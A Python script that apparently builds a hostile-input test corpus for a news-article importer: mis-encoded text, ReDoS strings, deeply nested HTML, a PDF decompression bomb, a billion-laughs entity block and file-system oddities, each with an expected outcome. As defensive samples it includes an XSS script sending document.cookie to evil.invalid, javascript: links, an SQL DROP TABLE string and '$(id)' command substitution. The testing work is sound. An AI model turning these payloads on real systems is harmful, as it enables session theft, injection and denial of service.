"""Write the hostile-input corpus: files that try to crash, hang, bloat or leak the importer.

Usage: ``python tests/hostile/make_corpus.py OUTDIR`` (deterministic: same bytes every run).

Every case says what the app must end with: ``imported`` (a clean article) or ``failed``
(a one-sentence message). ``docs/reliability.md`` lists the same cases in a table.
"""

from __future__ import annotations

import io
import os
import random
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, StreamObject

IMPORTED = "imported"
FAILED = "failed"
MB = 1024 * 1024
SEED = 20261129

ARTICLE_DE = """Regierung verhängt neue Zölle auf Stahl

Von Anna Beispiel

BERLIN (dpa) - Die Bundesregierung hat am Montag neue Zölle auf Stahlimporte angekündigt.
Wirtschaftsministerin Petra Muster sagte, die Maßnahme schütze Arbeitsplätze in Duisburg.

Die Europäische Kommission kritisierte den Schritt. „Wir prüfen die Lage genau“, sagte ein
Sprecher in Brüssel. Die Größe des Marktes wird auf 12 Milliarden Euro geschätzt.
"""

ARTICLE_EN = """Ministers agree new sanctions on shipping firms

By John Example

LONDON (Reuters) - British ministers on Tuesday agreed new sanctions on three shipping
companies accused of carrying oil for Russia, the Foreign Office said.

"We will keep up the pressure," Foreign Secretary Jane Sample told reporters in London.
The measures take effect on 1 December, officials said.
"""


@dataclass(frozen=True)
class Case:
    """One hostile input: its file, what it tries, and the outcome the app must reach."""

    name: str
    relative: str  # path under the corpus folder
    attack: str
    expected: str  # IMPORTED or FAILED
    must_contain: str = ""  # a word the imported body must keep (encoding cases)


def _text(path: Path, text: str, encoding: str = "utf-8") -> None:
    path.write_bytes(text.encode(encoding))


def _stream(path: Path, size: int, line: bytes, newline: bool = True) -> None:
    """Write ``size`` bytes of repeated text in 1 MB chunks (never all in memory)."""
    unit = line + (b"\n" if newline else b" ")
    chunk = unit * (MB // len(unit))
    with path.open("wb") as handle:
        left = size
        while left > 0:
            part = chunk[:left]
            handle.write(part)
            left -= len(part)


def _pdf(pages: list[list[str]], password: str | None = None) -> bytes:
    """A small real PDF with one Helvetica text line per entry (no test helpers needed)."""
    writer = PdfWriter()
    font = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
                NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
            }
        )
    )
    for lines in pages:
        page = writer.add_blank_page(width=595, height=842)
        fonts = DictionaryObject({NameObject("/F1"): font})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
        if lines:
            ops = [b"BT /F1 10 Tf 14 TL 40 800 Td"]
            for line in lines:
                escaped = line.encode("cp1252").replace(b"(", b"\\(").replace(b")", b"\\)")
                ops.append(b"(" + escaped + b") Tj T*")
            ops.append(b"ET")
            stream = DecodedStreamObject()
            stream.set_data(b"\n".join(ops))
            page[NameObject("/Contents")] = writer._add_object(stream)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _bomb_pdf(inflated_mb: int = 100) -> bytes:
    """One page whose 1 MB content stream inflates to ``inflated_mb`` MB of drawing code."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    line = b"BT 40 800 Td (" + b"A" * 100 + b") Tj ET\n"
    chunk = line * (MB // len(line))
    packer = zlib.compressobj(9)
    stream = StreamObject()
    stream._data = b"".join(packer.compress(chunk) for _ in range(inflated_mb)) + packer.flush()
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _article_pdf() -> bytes:
    return _pdf([[line for line in ARTICLE_EN.splitlines() if line]])


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document>" + ARTICLE_EN + "</w:document>")
    return out.getvalue()


def _html(body: str, head: str = "") -> str:
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">{head}'
        f"<title>Ministers agree new sanctions</title></head><body>{body}</body></html>"
    )


def _article_html() -> str:
    paragraphs = "".join(f"<p>{p}</p>" for p in ARTICLE_EN.split("\n\n")[2:])
    return (
        f"<article><h1>Ministers agree new sanctions on shipping firms</h1>{paragraphs}</article>"
    )


ACTIVE_HEAD = (
    '<script src="http://tracker.invalid/t.js"></script>'
    "<script>document.write('pwned'); fetch('http://evil.invalid/?c='+document.cookie)</script>"
    '<link rel="stylesheet" href="http://cdn.invalid/site.css">'
    "<style>@font-face{font-family:X;src:url(http://fonts.invalid/x.woff2)}"
    "body{background:url(http://evil.invalid/bg.png)}</style>"
    '<meta http-equiv="refresh" content="0; url=http://evil.invalid/">'
)
ACTIVE_BODY = (
    '<iframe src="http://evil.invalid/frame.html">iframe fallback text</iframe>'
    '<img src="http://evil.invalid/pixel.gif" onerror="alert(1)">'
    '<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/y">'
    '<svg><script>alert("svg")</script></svg>'
    '<a href="javascript:alert(document.domain)">javascript:alert(2)</a>'
    '<form action="http://evil.invalid/"><input name="q"></form>'
)


def _write_text_cases(root: Path, rng: random.Random) -> list[Case]:
    article_ascii = ARTICLE_EN
    cases: list[tuple[Case, Callable[[Path], object]]] = [
        (
            Case("empty", "empty.txt", "zero bytes", FAILED),
            lambda p: p.write_bytes(b""),
        ),
        (
            Case("whitespace", "whitespace.txt", "spaces, tabs and newlines only", FAILED),
            lambda p: _text(p, " \t \n\n\r\n   \u00a0\u3000 \n"),
        ),
        (
            Case("invisible", "invisible.txt", "zero-width spaces, BOM and soft hyphens", FAILED),
            lambda p: _text(p, "\ufeff\u200b\u200b\u00ad\u2060\n\u200d\n"),
        ),
        (
            Case("random-binary", "random.txt", "4 KB of random bytes named .txt", FAILED),
            lambda p: p.write_bytes(rng.randbytes(4096)),
        ),
        (
            Case("png-as-txt", "picture.txt", "a PNG image named .txt", FAILED),
            lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n" + rng.randbytes(2048)),
        ),
        (
            Case("nul-heavy", "nul_heavy.txt", "text with NUL after every few bytes", FAILED),
            lambda p: p.write_bytes(b"\x00\x00abc\x00" * 2000),
        ),
        (
            Case("nul-stray", "nul_stray.txt", "an article with two stray NUL bytes", IMPORTED),
            lambda p: p.write_bytes(
                ARTICLE_EN.encode().replace(b"agreed", b"agreed\x00", 1) + b"\x00\n"
            ),
        ),
        (
            Case(
                "invalid-utf8",
                "invalid_utf8.txt",
                "UTF-8 German with stray 0xFF bytes and an encoded surrogate",
                IMPORTED,
                must_contain="Maßnahme",
            ),
            lambda p: p.write_bytes(
                ARTICLE_DE.encode().replace(b"Montag", b"Mon\xfftag", 1) + b"\xed\xa0\x80\n"
            ),
        ),
        (
            Case("utf16-bom", "utf16_bom.txt", "UTF-16 LE with BOM", IMPORTED, "Maßnahme"),
            lambda p: _text(p, "\ufeff" + ARTICLE_DE, "utf-16-le"),
        ),
        (
            Case("utf16le-nobom", "utf16le.txt", "UTF-16 LE without BOM", IMPORTED, "Größe"),
            lambda p: _text(p, ARTICLE_DE, "utf-16-le"),
        ),
        (
            Case("utf16be-nobom", "utf16be.txt", "UTF-16 BE without BOM", IMPORTED, "Größe"),
            lambda p: _text(p, ARTICLE_DE, "utf-16-be"),
        ),
        (
            Case("utf16-truncated", "utf16_odd.txt", "UTF-16 with BOM cut mid-character", FAILED),
            lambda p: p.write_bytes((("\ufeff" + ARTICLE_DE).encode("utf-16-le"))[:-1]),
        ),
        (
            Case("utf32-bom", "utf32.txt", "UTF-32 LE with BOM", IMPORTED, "Größe"),
            lambda p: _text(p, "\ufeff" + ARTICLE_DE, "utf-32-le"),
        ),
        (
            Case("latin-1", "latin1.txt", "ISO-8859-1 umlauts", IMPORTED, "Maßnahme"),
            lambda p: _text(p, ARTICLE_DE.replace("„", '"').replace("“", '"'), "latin-1"),
        ),
        (
            Case("cp1252", "cp1252.txt", "Windows-1252 quotes, dashes and €", IMPORTED, "€"),
            lambda p: _text(p, ARTICLE_DE + "\nKosten: 5 € – „teuer“.\n", "cp1252"),
        ),
        (
            Case("mixed-newlines", "newlines.txt", "CRLF, CR and LF mixed", IMPORTED, "sanctions"),
            lambda p: _text(p, article_ascii.replace("\n\n", "\r\n\r\n", 1).replace("\n", "\r", 3)),
        ),
        (
            Case("arabic", "arabic.txt", "right-to-left Arabic article", IMPORTED, "العقوبات"),
            lambda p: _text(p, _ARABIC),
        ),
        (
            Case(
                "hebrew-bidi",
                "hebrew.txt",
                "Hebrew with RLO/LRO bidi overrides",
                IMPORTED,
                "הממשלה",
            ),
            lambda p: _text(p, _HEBREW),
        ),
        (
            Case(
                "emoji",
                "emoji.txt",
                "emoji, ZWJ families, flags, skin tones",
                IMPORTED,
                "sanctions",
            ),
            lambda p: _text(p, _EMOJI + ARTICLE_EN),
        ),
        (
            Case(
                "zalgo",
                "zalgo.txt",
                "hundreds of combining marks on letters",
                IMPORTED,
                "Ministers",
            ),
            lambda p: _text(p, ARTICLE_EN.replace("new", "n" + "\u0301\u0316\u0353" * 100 + "ew")),
        ),
        (
            Case(
                "terminal-escapes",
                "ansi.txt",
                "dense ANSI terminal escape sequences",
                FAILED,
                "sanctions",
            ),
            lambda p: _text(p, "\x1b[31m\x1b]0;owned\x07" + ARTICLE_EN + "\x1b[0m"),
        ),
        (
            Case(
                "injection-text",
                "injection.txt",
                "SQL, FTS5 and format-string syntax as content",
                IMPORTED,
                "unterminated {0}",
            ),
            lambda p: _text(p, _INJECTION),
        ),
        (
            Case("long-line", "long_line.txt", "one 900 KB line of words", IMPORTED, "ministers"),
            lambda p: _stream(p, 900_000, b"ministers agreed sanctions today", newline=False),
        ),
        (
            Case("many-lines", "many_lines.txt", "60,000 one-word lines", IMPORTED, "Zoll"),
            lambda p: _text(p, "Zoll\n" * 60_000),
        ),
        (
            Case(
                "single-line-50mb",
                "single_line_50mb.txt",
                "one 50 MB line, just under the size cap",
                FAILED,
            ),
            lambda p: _stream(p, 50 * MB - 1, b"word", newline=False),
        ),
        (
            Case(
                "huge-200mb",
                "huge_200mb.txt",
                "200 MB of text, over the size cap",
                FAILED,
            ),
            lambda p: _stream(p, 200 * MB, b"The ministers agreed new sanctions today."),
        ),
        (
            Case("unsupported-suffix", "report.docx", "a Word file named explicitly", FAILED),
            lambda p: p.write_bytes(_zip_bytes()),
        ),
        (
            Case(
                "non-ascii-path",
                "Ünïcødé — 東京 مرحبا/Zölle über Stahl 📰.txt",
                "folder and file name outside ASCII",
                IMPORTED,
                "Maßnahme",
            ),
            lambda p: _text(p, ARTICLE_DE),
        ),
        (
            Case(
                "markdown-emphasis-redos",
                "stars.md",
                "100,000 unclosed *emphasis* markers on one line (regex blow-up)",
                IMPORTED,
                "*a",
            ),
            lambda p: _text(p, "# Stars\n\n" + "*a " * 100_000),
        ),
        (
            Case(
                "markdown-link-redos",
                "brackets.md",
                "200,000 unclosed [link brackets and <tags",
                IMPORTED,
                "[[[",
            ),
            lambda p: _text(p, "# Brackets\n\n" + "[" * 200_000 + " <a" * 50_000 + " x\n"),
        ),
        (
            Case(
                "wire-header-redos",
                "caps.txt",
                "a 200,000-letter capitalised 'dateline' and 100,000-word byline",
                IMPORTED,
                "Text follows",
            ),
            lambda p: _text(
                p, "A" * 200_000 + "\n\nVon " + "Anna " * 100_000 + "\n\nText follows here.\n"
            ),
        ),
        (
            Case(
                "markdown-active",
                "active.md",
                "Markdown with inline <script>, javascript: links and remote images",
                IMPORTED,
                "sanctions",
            ),
            lambda p: _text(p, _MARKDOWN),
        ),
    ]
    return _write_all(root, cases)


def _write_html_cases(root: Path) -> list[Case]:
    deep = "<div>" * 100_000 + "Deep text here." + "</div>" * 100_000
    deep_inline = "<b>" * 100_000 + "Bold text." + "</b>" * 100_000
    unclosed = "<div><p><span>" * 40_000 + ARTICLE_EN
    filler = "<script>var data = " + "[1,2,3,4,5,6,7,8,9]," * 180_000 + "0;</script>"
    cases: list[tuple[Case, Callable[[Path], object]]] = [
        (
            Case(
                "html-active",
                "active.html",
                "<script>, <iframe>, remote img/CSS/fonts, javascript: links, handlers",
                IMPORTED,
                "sanctions",
            ),
            lambda p: _text(p, _html(ACTIVE_BODY + _article_html() + ACTIVE_BODY, ACTIVE_HEAD)),
        ),
        (
            Case(
                "html-only-active",
                "only_active.html",
                "scripts, frames and a javascript: link but no article",
                FAILED,
            ),
            lambda p: _text(
                p, _html(ACTIVE_BODY.replace(">javascript:alert(2)<", "><"), ACTIVE_HEAD)
            ),
        ),
        (
            Case("html-deep-100k", "deep.html", "<div> nested 100,000 levels", FAILED),
            lambda p: _text(p, _html(deep)),
        ),
        (
            Case("html-deep-inline", "deep_inline.html", "<b> nested 100,000 levels", FAILED),
            lambda p: _text(p, _html(deep_inline)),
        ),
        (
            Case("html-unclosed", "unclosed.html", "120,000 unclosed tags before the text", FAILED),
            lambda p: _text(p, _html(unclosed)),
        ),
        (
            Case(
                "html-huge",
                "huge.html",
                "a 7 MB inline script around a short article",
                IMPORTED,
                "sanctions",
            ),
            lambda p: _text(p, _html(filler + _article_html() + filler)),
        ),
        (
            Case(
                "html-boilerplate",
                "boilerplate.html",
                "only navigation, cookie banner and footer",
                FAILED,
            ),
            lambda p: _text(p, _html(_BOILERPLATE)),
        ),
        (
            Case("html-empty-body", "empty_body.html", "a title and an empty body", FAILED),
            lambda p: _text(p, _html("")),
        ),
        (
            Case(
                "html-entity-bomb",
                "entities.html",
                "billion-laughs entity definitions",
                IMPORTED,
                "sanctions",
            ),
            lambda p: _text(p, _ENTITY_BOMB + _html(_article_html() + "<p>&lol9;</p>")),
        ),
        (
            Case(
                "html-charset-lie",
                "charset_lie.html",
                "declares UTF-8 but is Windows-1252",
                IMPORTED,
                "Größe",
            ),
            lambda p: p.write_bytes(
                _html(
                    "<article><h1>Zölle</h1><p>"
                    + ARTICLE_DE.replace("\n", "</p><p>")
                    + "</p></article>"
                ).encode("cp1252", "replace")
            ),
        ),
        (
            Case("html-utf16", "utf16.html", "UTF-16 HTML with BOM", IMPORTED, "sanctions"),
            lambda p: _text(p, "\ufeff" + _html(_article_html()), "utf-16-le"),
        ),
        (
            Case(
                "html-is-pdf", "actually_pdf.html", "a PDF file named .html", IMPORTED, "sanctions"
            ),
            lambda p: p.write_bytes(_article_pdf()),
        ),
        (
            Case("html-is-zip", "actually_zip.htm", "a ZIP archive named .htm", FAILED),
            lambda p: p.write_bytes(_zip_bytes()),
        ),
    ]
    return _write_all(root, cases)


def _write_pdf_cases(root: Path) -> list[Case]:
    good = _article_pdf()
    many = _pdf([[f"Page {n} of a very long report about sanctions."] for n in range(1200)])
    cases: list[tuple[Case, Callable[[Path], object]]] = [
        (
            Case(
                "pdf-valid",
                "valid.pdf",
                "a plain one-page article (control case)",
                IMPORTED,
                "sanctions",
            ),
            lambda p: p.write_bytes(good),
        ),
        (
            Case("pdf-truncated", "truncated.pdf", "a PDF cut off halfway", FAILED),
            lambda p: p.write_bytes(good[: len(good) // 2]),
        ),
        (
            Case("pdf-encrypted", "encrypted.pdf", "RC4-encrypted with a user password", FAILED),
            lambda p: p.write_bytes(_pdf([["Secret text"]], password="geheim")),
        ),
        (
            Case("pdf-zero-pages", "zero_pages.pdf", "a valid PDF with no pages", FAILED),
            lambda p: p.write_bytes(_pdf([])),
        ),
        (
            Case("pdf-no-text", "scanned.pdf", "pages without a text layer", FAILED),
            lambda p: p.write_bytes(_pdf([[], []])),
        ),
        (
            Case("pdf-is-zip", "archive.pdf", "a ZIP archive renamed .pdf", FAILED),
            lambda p: p.write_bytes(_zip_bytes()),
        ),
        (
            Case("pdf-is-text", "notes.pdf", "plain text renamed .pdf", FAILED),
            lambda p: _text(p, ARTICLE_EN),
        ),
        (
            Case("pdf-garbage-header", "garbage.pdf", "%PDF- header then random bytes", FAILED),
            lambda p: p.write_bytes(b"%PDF-1.7\n" + random.Random(SEED).randbytes(8192)),
        ),
        (
            Case(
                "pdf-running-header",
                "running_header.pdf",
                "the same line on every page (removed as a running header)",
                FAILED,
            ),
            lambda p: p.write_bytes(_pdf([["Page text about sanctions."]] * 5)),
        ),
        (
            Case("pdf-zip-bomb", "bomb.pdf", "a content stream that inflates to 100 MB", FAILED),
            lambda p: p.write_bytes(_bomb_pdf()),
        ),
        (
            Case("pdf-many-pages", "many_pages.pdf", "1,200 pages (over the page cap)", FAILED),
            lambda p: p.write_bytes(many),
        ),
        (
            Case("pdf-as-txt", "actually_pdf.txt", "a PDF file named .txt", IMPORTED, "sanctions"),
            lambda p: p.write_bytes(good),
        ),
    ]
    return _write_all(root, cases)


def _write_special_cases(root: Path) -> list[Case]:
    """File-system oddities: a named pipe (reading it would block) and a dangling link."""
    cases: list[Case] = []
    if hasattr(os, "mkfifo"):
        fifo = Case("named-pipe", "pipe.txt", "a named pipe (FIFO) called .txt", FAILED)
        os.mkfifo(root / fifo.relative)
        cases.append(fifo)
    undecodable = Case(
        "undecodable-name",
        "bad\udcffname.txt",
        "a file name that is not valid UTF-8",
        IMPORTED,
        "Tuesday",
    )
    try:  # Linux file systems take any bytes; others refuse such a name
        (root / undecodable.relative).write_text(ARTICLE_EN.replace("Tuesday", "Tuesday night"))
        cases.append(undecodable)
    except (OSError, UnicodeEncodeError):
        pass
    link = Case("dangling-link", "gone.txt", "a symbolic link to a missing file", FAILED)
    (root / link.relative).symlink_to(root / "does-not-exist.txt")
    cases.append(link)
    return cases


def _write_all(root: Path, cases: list[tuple[Case, Callable[[Path], object]]]) -> list[Case]:
    written = []
    for case, write in cases:
        path = root / case.relative
        path.parent.mkdir(parents=True, exist_ok=True)
        write(path)
        written.append(case)
    return written


def make_corpus(root: Path) -> list[Case]:
    """Write every case under ``root`` (created if needed) and return their descriptions."""
    root.mkdir(parents=True, exist_ok=True)
    rng = random.Random(SEED)
    return (
        _write_text_cases(root, rng)
        + _write_html_cases(root)
        + _write_pdf_cases(root)
        + _write_special_cases(root)
    )


_ARABIC = """فرض العقوبات على شركات الشحن

القاهرة (رويترز) - وافق الوزراء يوم الثلاثاء على فرض العقوبات على ثلاث شركات شحن.
وقال المتحدث باسم الوزارة إن الإجراءات تدخل حيز التنفيذ في الأول من ديسمبر.
"""
_HEBREW = (
    "הממשלה אישרה סנקציות חדשות\n\n"
    "ירושלים - הממשלה אישרה ביום שלישי סנקציות \u202etxet desrever\u202c חדשות "
    "על שלוש חברות ספנות, \u202dforced LTR\u202c כך נמסר.\n"
)
_EMOJI = (
    "🚢🛢️ Breaking 👨\u200d👩\u200d👧\u200d👦 🇩🇪🇬🇧 👍🏽 \U0001f9d1\u200d\U0001f4bb "
    "\U000e0067 tag chars \U0001fae8\n\n"
)
_INJECTION = (
    "Robert'); DROP TABLE article;-- said the minister\n\n"
    'NEAR("a" "b") AND OR NOT * ^title:x "unterminated {0} %s %n %(x)s ${HOME} $(id)\n\n'
    + ARTICLE_EN
)
_MARKDOWN = (
    "# Ministers agree new sanctions on shipping firms\n\n"
    "<script>alert('md')</script>\n\n"
    "LONDON (Reuters) - British ministers agreed new sanctions, "
    '[click here](javascript:alert(1)) and <a href="javascript:alert(3)">here</a>.\n\n'
    "![tracker](http://evil.invalid/pixel.gif)\n\n"
    '<iframe src="http://evil.invalid/"></iframe>\n\n'
    "The measures take effect on 1 December, officials said.\n"
)
_BOILERPLATE = (
    "<header><nav><a href='/'>Home</a> <a href='/politics'>Politics</a></nav></header>"
    "<div class='cookie-banner'><button>Accept all</button></div>"
    "<aside>Newsletter</aside>"
    "<footer>© 2026 Example News. All rights reserved. <a href='/imprint'>Imprint</a></footer>"
)
_ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "' + f"&lol{i - 1 if i > 1 else ''};" * 10 + '">' for i in range(1, 10)
    )
    + "]>"
)


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: make_corpus.py OUTDIR", file=sys.stderr)
        return 2
    cases = make_corpus(Path(argv[1]))
    for case in cases:
        print(f"{case.expected:8} {case.relative}  ({case.attack})")
    print(f"{len(cases)} hostile inputs written to {argv[1]}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
